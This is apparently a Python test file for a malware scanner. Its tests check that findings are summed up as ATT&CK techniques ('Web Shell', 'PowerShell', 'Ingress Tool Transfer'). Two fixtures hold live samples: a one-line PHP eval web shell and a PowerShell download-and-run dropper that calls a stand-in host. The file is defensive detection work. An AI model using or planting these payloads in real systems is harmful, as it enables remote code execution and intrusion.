"""attack: techniques with their names, findings and payloads; the table knows all that are in use."""

from __future__ import annotations

from pathlib import Path

from handlers import bootstrap
from handlers.local.samples import zipped
from plugins._rules.attack_names import NAMES
from plugins._rules.rulesets import SHIPPED, compile_sources, read_sources
from plugins._rules.yara import words
from plugins.decorators.attack import Attack
from stoq_core.job import Finding
from stoq_core.limits import Deadline
from stoq_core.payload import Request
from stoq_core.pipeline import payload_of
from stoq_core.registry import Registry
from stoq_core.response import FoundIn
from stoq_core.testing import make
from tests.responses import response

PHP = b"<?php @eval($_POST['x']);"
DROPPER = b"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"


def test_a_scan_is_summed_up() -> None:
    """Each technique once, with all findings that name it and the payloads they are in; highest first."""
    pipeline = bootstrap.pipeline(
        bootstrap.configured({}, [("sandbox.mode", "inline"), ("scan.decorators", ["attack"])])
    )
    content = zipped(**{"a.php": PHP, "b.ps1": DROPPER, "c.ps1": DROPPER + b" "})
    request = Request(scan_id="55555555-5555-4555-8555-555555555555", payloads=[payload_of(content, "a.zip")])
    made = pipeline.scan(request, Deadline.after_ms(60_000))
    found = made.decorators["attack"]["techniques"]
    assert [(one["id"], one["name"], one["score"]) for one in found] == [
        ("T1505.003", "Web Shell", 1000),
        ("T1059.001", "PowerShell", 600),
        ("T1105", "Ingress Tool Transfer", 600),
    ]
    assert found[1]["findings"] == ["powershell_download_and_run"]
    assert found[1]["payloads"] == [one.payload_id for one in made.results[2:]]


def test_an_unknown_technique_has_no_name() -> None:
    """Rules of others may name what the table does not know; without techniques there is no summary."""
    one = response()
    assert list(make(Attack).decorate(one)) == []
    one.results[1].findings.append(
        FoundIn(plugin="yara", payload_id="x", finding=Finding("own", 5, "", ("T9999",)))
    )
    (made,) = make(Attack).decorate(one)
    assert [(each.id, each.name, each.payloads) for each in made.techniques] == [
        ("T9999", "", [one.results[1].payload_id])
    ]


def test_the_table_knows_every_technique_in_use() -> None:
    """Those of the shipped rules' meta and of the plugins' declared findings; the table is sorted."""
    used: dict[str, str] = {}
    for rule in compile_sources(read_sources([SHIPPED])).rules:
        for technique in words(dict(rule.metadata), "attack"):
            used[technique] = rule.identifier
    registry = Registry(Path(SHIPPED).parent / "plugins")
    for one in registry:
        for name, (_, _, attack) in registry.load(one.kind, one.name).findings.items():
            used.update(dict.fromkeys(attack, f"{one.kind} {one.name}: {name}"))
    assert {technique: where for technique, where in used.items() if technique not in NAMES} == {}
    assert list(NAMES) == sorted(NAMES)
